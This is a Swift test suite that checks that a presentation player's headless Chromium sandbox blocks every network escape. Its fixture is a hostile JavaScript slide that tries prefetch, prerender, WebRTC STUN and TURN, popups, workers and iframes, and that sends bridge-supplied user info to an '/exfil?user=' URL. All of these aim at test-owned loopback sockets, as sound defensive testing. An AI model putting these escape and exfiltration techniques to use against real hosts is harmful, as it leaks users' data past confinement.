import Foundation
import SCLMCore
import SCLMTestSupport
import Testing

/// A hostile slide tries every way out of the browser — speculation-rules prefetch and prerender,
/// preconnect, DNS prefetch, WebRTC STUN (UDP) and TURN (TCP), a popup, a worker's fetch, an iframe, and
/// a bridge answer sent out in a prefetch URL — each aimed at a socket on 127.0.0.1 that the test owns
/// (DNS at a resolver on 127.0.0.1:53, named by a `/etc/resolv.conf` mounted for sclm alone). Under
/// `play` and `validate --render` no socket hears anything.
extension ChromiumTests {
    @Suite(.serialized, .timeLimit(.minutes(1)), .enabled(if: MountNamespace.isAvailable))
    struct BrowserNetworkTests {
        /// One way out, with the socket it aims at.
        enum Channel: String, CaseIterable {
            case prefetch, prerender, preconnect, dnsPrefetch, stun, turn, popup, worker, sharedWorker, iframe
            case exfiltration

            var kind: LoopbackTrap.Kind { self == .stun || self == .dnsPrefetch ? .udp : .tcp }
            /// DNS goes to the resolver's port; the rest to any free one.
            var port: Int { self == .dnsPrefetch ? 53 : 0 }
        }

        /// The sockets, one per channel, and the resolver configuration that names the DNS one.
        struct Traps {
            let traps: [Channel: LoopbackTrap]
            let folder = TemporaryDirectory(prefix: "sclm-net")
            let resolver: String

            init() throws {
                traps = try Dictionary(
                    uniqueKeysWithValues: Channel.allCases.map { ($0, try LoopbackTrap($0.kind, port: $0.port)) })
                try folder.write("nameserver 127.0.0.1\noptions attempts:1\n", to: "resolv.conf")
                resolver = folder.appending("resolv.conf")
            }

            func port(_ channel: Channel) -> Int { traps[channel]?.port ?? 0 }

            /// Expects that nothing reached any socket.
            func expectNothingReached() {
                for channel in Channel.allCases {
                    #expect(traps[channel]?.wasReached == false, "\(channel.rawValue) reached its loopback socket")
                }
            }
        }

        /// The slide: every channel at once, then busy (so a render waits) for 2.5 s, then it closes.
        static func deck(_ traps: Traps) -> DeckFiles {
            let url = { (channel: Channel, path: String) in "http://127.0.0.1:\(traps.port(channel))\(path)" }
            let script = """
                function rules(kind, url) {
                  var s = document.createElement("script"); s.type = "speculationrules";
                  var r = {}; r[kind] = [{ source: "list", urls: [url] }];
                  s.textContent = JSON.stringify(r); document.head.appendChild(s);
                }
                function link(rel, href) {
                  var l = document.createElement("link"); l.rel = rel; l.href = href; document.head.appendChild(l);
                }
                rules("prefetch", "\(url(.prefetch, "/prefetch"))");
                rules("prerender", "\(url(.prerender, "/prerender"))");
                link("preconnect", "\(url(.preconnect, ""))");
                link("dns-prefetch", "//dns-prefetch.sclm-test.example");
                var pc = new RTCPeerConnection({ iceServers: [
                  { urls: ["stun:127.0.0.1:\(traps.port(.stun))", "stun:stun.sclm-test.example:3478"] },
                  { urls: "turn:127.0.0.1:\(traps.port(.turn))?transport=tcp", username: "u", credential: "p" }] });
                pc.createDataChannel("x");
                pc.createOffer().then(function (offer) { return pc.setLocalDescription(offer); });
                window.open("\(url(.popup, "/popup"))");
                var worker = new Worker("worker.js");
                var workerUp = false;
                worker.onmessage = function (e) { workerUp = true; console.error("worker " + e.data); };
                new SharedWorker("shared.js");
                var frame = document.createElement("iframe");
                frame.src = "\(url(.iframe, "/iframe"))"; document.body.appendChild(frame);
                StoryCLMBridge.Invoke("getUserInfo", {}, function (answer) {
                  rules("prefetch", "\(url(.exfiltration, "/exfil?user="))" + encodeURIComponent(JSON.stringify(answer)));
                });
                var until = Date.now() + 2500;
                var busy = setInterval(function () {
                  // Closed once the worker has said so too (a loaded machine starts it late), 20 s at most.
                  if (Date.now() < until || (!workerUp && Date.now() < until + 20000)) {
                    fetch("worker.js", { cache: "no-store" }); return;
                  }
                  clearInterval(busy);
                  StoryCLMBridge.Invoke("closePresentation", { mode: 1 });
                }, 100);
                """
            var deck = DeckFiles()
            deck.add("index.html", DeckFiles.slide("hostile", scripts: ["js/raw.js"], body: script))
            deck.add(
                "worker.js", "fetch(\"\(url(.worker, "/worker"))\").catch(function () {});\npostMessage(\"up\");\n")
            deck.add("shared.js", "fetch(\"\(url(.sharedWorker, "/shared"))\").catch(function () {});\n")
            deck.add("js/raw.js", PlayTests.rawTransport)
            return deck
        }

        @Test func aHostileSlideUnderPlayReachesNothing() async throws {
            let traps = try Traps()
            let play = try PlayTests.PlayHome(Self.deck(traps))
            let result = try await MountNamespace.sclm(
                [
                    "--home", play.home.root, "--json", "play", "--presentation", String(play.fixture.presentationId),
                    "--headless", "--timeout", "30",
                ], replacing: ["/etc/resolv.conf": traps.resolver], timeout: 40)
            #expect(result.status == 0, "\(result)")
            #expect(result.stdout.contains("worker up"), "the worker ran, served from the package: \(result)")
            traps.expectNothingReached()
        }

        /// How sclm runs the browser in a render.
        enum Confinement: String, CaseIterable {
            /// As root: a bare network namespace, the browser as `nobody`.
            case root
            /// As an ordinary user (`nobody`): the namespace inside a user namespace.
            case user
            /// `unshare` refuses (replaced by `/bin/false`): the browser shares sclm's network, switched off.
            case sharedNetwork
        }

        /// Which Chromium a render runs: the headless shell (the default where installed) or the desktop
        /// browser, which reads the profile's preferences the shell ignores.
        enum Engine: String {
            case headlessShell, desktop

            var options: [String] { self == .desktop ? ["--browser", "/usr/bin/chromium"] : [] }
        }

        @Test(
            arguments: zip(
                [Confinement.root, .user, .sharedNetwork, .sharedNetwork],
                [Engine.headlessShell, .headlessShell, .headlessShell, .desktop]))
        func aHostileSlideUnderRenderReachesNothing(_ confinement: Confinement, _ engine: Engine) async throws {
            let traps = try Traps()
            let folder = TemporaryDirectory(prefix: "sclm-net-deck")
            try Self.deck(traps).write(to: folder.appending("deck"))
            #expect(chmod(folder.path, 0o777) == 0)
            var files = ["/etc/resolv.conf": traps.resolver]
            if confinement == .sharedNetwork { files["/usr/bin/unshare"] = "/bin/false" }
            let result = try await MountNamespace.sclm(
                ["validate", "--render", folder.appending("deck"), "--format", "json"] + engine.options,
                replacing: files,
                asNobody: confinement == .user, environment: ["HOME": folder.path, "TMPDIR": folder.path], timeout: 40)
            #expect(result.stdout.contains("worker up"), "the worker ran, served from the package: \(result)")
            let warned = result.stderr.contains("cannot give the browser a network namespace of its own")
            #expect(warned == (confinement == .sharedNetwork), "\(result)")
            traps.expectNothingReached()
        }
    }
}
